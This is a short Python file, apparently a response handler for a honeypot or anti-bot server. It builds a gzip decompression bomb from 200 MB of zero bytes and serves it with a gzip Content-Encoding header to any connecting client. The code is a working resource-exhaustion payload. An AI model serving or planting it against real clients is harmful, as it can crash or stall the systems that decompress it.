import gzip

BOMB = gzip.compress(bytes(200_000_000), 1)


def behave(connection, head):
    connection.sendall(b"HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: %d\r\n\r\n" % len(BOMB) + BOMB)
